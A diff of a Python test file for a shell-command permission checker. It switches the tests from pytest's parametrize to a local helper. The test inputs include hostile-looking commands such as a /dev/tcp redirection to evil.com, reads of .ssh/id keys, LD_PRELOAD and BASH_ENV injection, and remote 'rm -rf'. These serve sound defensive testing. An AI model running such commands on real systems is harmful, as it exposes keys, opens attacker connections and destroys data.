@@ -1,6 +1,7 @@
 """From shell text to actions: the strict reading is certain, the lenient one only possible."""
 
 import pytest
+from tests.tables import for_each
 
 from permitry.actions.folders import Folder
 from permitry.actions.shell.lenient import LooseReading
@@ -33,7 +34,7 @@ def _touched(action: Action) -> list[tuple[Access, str]]:
 # What is certain --------------------------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("text", ["ls", "ls -l; pwd", "cat a | sort", "ls && ls || ls", "cat <a", "ls >/dev/null 2>&1"])
+@for_each("text", ["ls", "ls -l; pwd", "cat a | sort", "ls && ls || ls", "cat <a", "ls >/dev/null 2>&1"])
 def test_a_command_that_only_reads_leaves_no_doubt(text: str) -> None:
     """Nor does it anything else."""
     reading = _read(text)
@@ -65,7 +66,7 @@ def test_operands_are_named_when_somebody_asks() -> None:
     assert (connect.host, connect.is_certain) == ("example.com", False)
 
 
-@pytest.mark.parametrize(
+@for_each(
     ("text", "access", "path", "origin"),
     [
         ("cat <a", Access.READ, f"{WORK}/a", "< a"),
@@ -88,13 +89,13 @@ def test_a_redirection_touches_its_file(text: str, access: Access, path: str, or
     assert (reading.doubt is None) is (access is Access.READ)
 
 
-@pytest.mark.parametrize("text", ["ls 2>&1", "ls >/dev/null", "cat <<<x", "cat <<E\nx\nE"])
+@for_each("text", ["ls 2>&1", "ls >/dev/null", "cat <<<x", "cat <<E\nx\nE"])
 def test_a_redirection_to_no_file_touches_none(text: str) -> None:
     """Another descriptor, the void, and text."""
     assert len(_read(text).certain) == 1
 
 
-@pytest.mark.parametrize("kind", ["tcp", "udp"])
+@for_each("kind", ["tcp", "udp"])
 def test_a_redirection_may_open_a_connection(kind: str) -> None:
     """To bash these files are addresses; to no permission a certain one."""
     reading = _read(f"cat </dev/{kind}/evil.com/80")
@@ -123,7 +124,7 @@ def test_no_shell_reads_a_list_of_words() -> None:
     assert (Access.DELETE, "*") in _touched(run)
 
 
-@pytest.mark.parametrize("argv", [[], [""], ["", "x"], ["a\0b"], ["ls", "\0"]])
+@for_each("argv", [[], [""], ["", "x"], ["a\0b"], ["ls", "\0"]])
 def test_words_that_name_no_program_are_unknown(argv: list[str]) -> None:
     """Nor can a program receive the end of its own text."""
     reading = read_argv(argv, HERE)
@@ -140,7 +141,7 @@ def test_a_shell_among_the_words_is_looked_into() -> None:
 # Programs that run others -----------------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize(
+@for_each(
     ("text", "certain", "wrapper"),
     [
         ("timeout 5 rm x", ["rm x"], "timeout 5 rm x"),
@@ -163,7 +164,7 @@ def test_a_wrapper_around_what_reads_leaves_no_doubt() -> None:
     assert (reading.doubt, bool(reading.possible)) == (None, True)
 
 
-@pytest.mark.parametrize(
+@for_each(
     ("text", "inner"),
     [
         ("sudo rm x", "rm x"),
@@ -183,7 +184,7 @@ def test_what_a_program_runs_besides_itself_is_certain(text: str, inner: str) ->
     assert run.doubt == "it is not read with certainty"
 
 
-@pytest.mark.parametrize(
+@for_each(
     "text", ["ssh host rm -rf x", "docker run img rm -rf x", "podman exec c rm -rf x", "kubectl exec p -- rm -rf x"]
 )
 def test_what_runs_elsewhere_is_only_a_guess(text: str) -> None:
@@ -199,7 +200,7 @@ def test_what_only_reads_runs_nothing_besides_itself() -> None:
     assert _runs(_read("echo rm x").certain) == ["echo rm x"]
 
 
-@pytest.mark.parametrize("text", ["BASH_ENV=x ls", "env -S ls", "echo 'rm x' | sh", "sh <<E\nrm x\nE"])
+@for_each("text", ["BASH_ENV=x ls", "env -S ls", "echo 'rm x' | sh", "sh <<E\nrm x\nE"])
 def test_a_wrapper_that_is_refused_is_unknown(text: str) -> None:
     """What runs is not certain, and what it may be is possible."""
     reading = _read(text)
@@ -226,7 +227,7 @@ def test_what_runs_too_deep_is_unknown() -> None:
 # Patches ----------------------------------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize(
+@for_each(
     "text", [f"apply_patch '{PATCH}'", f"apply_patch <<'E'\n{PATCH}\nE\n", f"cd . && apply_patch <<E\n{PATCH}\nE\n"]
 )
 def test_a_patch_in_a_command_touches_what_it_names(text: str) -> None:
@@ -263,7 +264,7 @@ def test_a_patch_is_seen_where_only_the_lenient_reader_goes() -> None:
 # What is only possible --------------------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize(
+@for_each(
     ("text", "offset", "possible"),
     [
         ("echo ${!x}; rm x", 5, "rm x"),
@@ -280,14 +281,14 @@ def test_what_the_strict_reader_refuses_is_one_unknown(text: str, offset: int, p
     assert possible in _runs(reading.possible)
 
 
-@pytest.mark.parametrize(("text", "access"), [("echo ${!x} >a", Access.WRITE), ("sort ${!x} <a", Access.READ)])
+@for_each(("text", "access"), [("echo ${!x} >a", Access.WRITE), ("sort ${!x} <a", Access.READ)])
 def test_a_redirection_beside_what_is_refused_is_possible(text: str, access: Access) -> None:
     """But for the void; where its file is, is not certain."""
     touches = [action for action in _read(f"{text} 2>/dev/null").possible if isinstance(action, Touch)]
     assert [(touch.access, touch.place.text, touch.place.is_certain) for touch in touches] == [(access, "a", False)]
 
 
-@pytest.mark.parametrize("step", ["cd ~", "pushd ~"])
+@for_each("step", ["cd ~", "pushd ~"])
 def test_a_step_anywhere_in_the_text_may_come_first(step: str) -> None:
     """Of a text that is read leniently only the order is known, and a loop may run backwards."""
     for text in (f"{step}; cat ${{!x}} .ssh/id", f"while cat .ssh/id; do {step}; done"):
@@ -342,7 +343,7 @@ def test_a_patch_of_too_many_files_touches_nothing_for_certain() -> None:
     assert (len(touches), doubt) == (4_096, None)
 
 
-@pytest.mark.parametrize("text", ["git status", "for a in 1 2 3 4 5 6 7 8 9; do ls " + "x" * 600 + "; done"])
+@for_each("text", ["git status", "for a in 1 2 3 4 5 6 7 8 9; do ls " + "x" * 600 + "; done"])
 def test_a_text_that_is_read_again_gives_the_same_actions(text: str) -> None:
     """Short readings are kept, by the text and by whether the folder was changed before it."""
     moved = read_command(text, HERE, has_moved=True)
@@ -351,7 +352,7 @@ def test_a_text_that_is_read_again_gives_the_same_actions(text: str) -> None:
     assert (moved == _read(text)) is (text != "git status")
 
 
-@pytest.mark.parametrize(
+@for_each(
     "text",
     [
         "LD_PRELOAD=./e.so bash -c 'cat a'",
